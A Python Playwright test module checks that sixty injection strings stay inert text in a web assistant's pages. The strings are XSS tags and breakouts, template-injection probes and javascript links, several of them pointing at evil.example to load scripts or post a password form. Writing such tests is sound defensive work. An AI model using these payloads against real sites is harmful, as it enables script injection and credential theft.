"""Sixty attacks through questions, passages, titles, links, names and notes: none comes alive."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from assistant.answer import Answer
from assistant.conversation import Conversation
from corpus.records import Entity, Figure, Footnote, Passage, Profile, Section, Sentence, Source

Visit = Callable[..., Page]
RUN = "window.ran=1"
EVIL = "https://evil.example"
TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src={EVIL}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<form action={EVIL}><input type=password name=p></form>",
    f"<button formaction={EVIL}>x</button>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<div style="background:url({EVIL}/x.png)">x</div>',
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
]
BREAKS = [
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</article></div>\n\n<script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
]
TEMPLATES = [
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    "{{7*7}}",
    "${7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7} <%= 7*7 %>",
    "{question} {0} {count.__class__}",
]
MARKUP = [
    f"![x]({EVIL}/x.png)",
    f"[x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: {EVIL}\n\n![x]",
    "$$\\href{javascript:window.ran=1}{x}$$",
    f"`<script>{RUN}</script>`",
    f"# <script>{RUN}</script>",
]
ATTACKS = tuple(TAGS + BREAKS + TEMPLATES + MARKUP)
ALIVE = (
    "#reading :is(script, iframe, object, embed, form, input, img, style, link, meta, base), "
    "#welcome :is(script, iframe, object, embed, form, input, img, style), "
    "main.wicked, [onerror], [onload], [onfocus], [onmouseover], [href^='javascript'], "
    "[href^='data:text'], [srcdoc], [style*='evil']"
)


def passage(number: int, text: str) -> Passage:
    return Passage(
        id=f"evil/s{number}#1",
        profile="evil",
        language="en",
        section=f"s{number}",
        path=(text, text),
        text=text,
        sentences=(Sentence(start=0, end=len(text), footnotes=(str(number),)),),
        footnotes=(Footnote(number=str(number), text=text, url=text),),
        caveats=(text,),
        edition=text,
    )


def entity(number: int, text: str) -> Entity:
    return Entity(id=f"e{number}", kind="programme", names={"en": text}, acronym=text[:30],
                  places=(text,), since=1990, passage=f"evil/s{number}#1")  # fmt: skip


def figure(number: int, text: str) -> Figure:
    return Figure(id=f"f{number}", label=text, value=number, unit=text, origin=text,
                  year=2020, passage=f"evil/s{number}#1")  # fmt: skip


def evil_profile() -> Profile:
    attacks = list(enumerate(ATTACKS))
    sections = tuple(
        Section(id=f"s{n}", title=a, path=(a, a), line=n, passages=(passage(n, a),))
        for n, a in attacks
    )
    return Profile(
        id="evil",
        country=ATTACKS[0],
        language="en",
        source=Source(title=ATTACKS[0], publisher=ATTACKS[3], edition=ATTACKS[5],
                      url=ATTACKS[26], licence=ATTACKS[7]),
        sections=sections,
        entities=tuple(entity(n, a) for n, a in attacks),
        figures=tuple(figure(n, a) for n, a in attacks),
        footnotes=tuple(Footnote(number=f"{n}", text=a, url=a) for n, a in attacks),
        sha256="0" * 64,
    )  # fmt: skip


class Evil:
    """Answers each question with itself, everywhere in the record."""

    generation = "g-1"

    def __init__(self, fake: Any) -> None:
        self.fake, self.known = fake, (evil_profile(),)

    def profiles(self) -> tuple[Profile, ...]:
        return self.known

    def ask(self, question: str, conversation: Conversation) -> Answer:
        said: Answer = self.fake.ask("Who funds TOKTEN?", Conversation())
        source = {"title": question, "publisher": question, "url": question}
        note = {"number": "1", "text": question, "url": question}
        cited = [
            c.model_dump() | {"passage": question, "quote": question, "start": 0,
                              "end": len(question), "section": (question,), "source": source,
                              "references": (note,), "caveats": (question,)}
            for c in said.citations
        ]  # fmt: skip
        sentences = [{"text": question, "citations": s.citations} for s in said.sentences]
        found = [{"passage_id": question, "section": (question,), "passage": question,
                  "score": 0.1}]  # fmt: skip
        return Answer.model_validate(
            said.model_dump()
            | {"question": question, "standalone_question": question + "?", "citations": cited,
               "sentences": sentences, "retrieved": found, "suggestions": (question,)}
        )  # fmt: skip


@pytest.fixture(scope="module")
def evil(browser: Any, serving: Any, fake: Any) -> Iterator[str]:
    with serving(Evil(fake)) as base:
        yield base


def test_there_are_sixty() -> None:
    assert len(set(ATTACKS)) == 60


def test_attacks_in_questions_and_answers_stay_text(
    page: Page, evil: str, ask: Callable[[Page, str], None]
) -> None:
    page.goto(f"{evil}/en/")
    for number, attack in enumerate(ATTACKS, 1):
        ask(page, attack)
        expect(page.locator(f"#turn-{number} h2")).to_have_text(" ".join(attack.split()))
        assert page.locator(ALIVE).count() == 0, attack
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize("view", ["read/evil", "actors", "timeline", "figures"])
def test_attacks_in_a_profile_stay_text(visit: Visit, evil: str, view: str) -> None:
    page = visit(f"{evil}/en/{view}")
    words = page.locator("main").inner_text()
    assert "{{7*7}}" in words
    assert "${7*7}" in words
    bad = "main :is(script, iframe, object, embed, img, style, link, meta, base), " + ALIVE
    assert page.locator(bad).count() == 0
    assert page.evaluate("window.ran") is None
    assert page.locator("form").count() == (1 if view in ("actors", "timeline") else 0)


def test_attacks_in_a_filter_stay_text(visit: Visit, evil: str) -> None:
    page = visit(f"{evil}/en/actors?kind=%22%3E%3Cscript%3Ewindow.ran%3D1%3C%2Fscript%3E")
    assert page.evaluate("window.ran") is None
    expect(page.locator(".count")).to_have_text("0 of 60")
